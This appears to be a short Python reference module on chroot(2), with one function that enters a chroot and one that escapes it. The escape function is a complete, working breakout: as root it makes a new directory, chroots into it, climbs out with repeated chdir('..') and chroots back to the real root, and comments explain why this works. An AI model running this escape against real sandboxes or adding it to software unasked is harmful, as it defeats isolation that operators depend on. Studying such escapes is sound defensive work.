"""chroot(2) (reference)."""
from __future__ import annotations

import os


def enter_chroot(rootfs: str) -> None:
    """Make `rootfs` this process's / ."""
    os.chroot(rootfs)
    # chroot leaves the cwd where it was, outside the new root: an open door.
    os.chdir("/")


def escape_chroot() -> None:
    """You are root inside a chroot. Get back to the real root filesystem."""
    os.makedirs("/kk-escape", exist_ok=True)
    # Our root becomes /kk-escape; the cwd stays at the old root, which is now
    # *above* the process root, so the kernel's ".." check never stops us.
    os.chroot("/kk-escape")
    for _ in range(256):  # more levels than any real path has; ".." at / stays at /
        os.chdir("..")
    # The cwd is the real /: make it the root again.
    os.chroot(".")
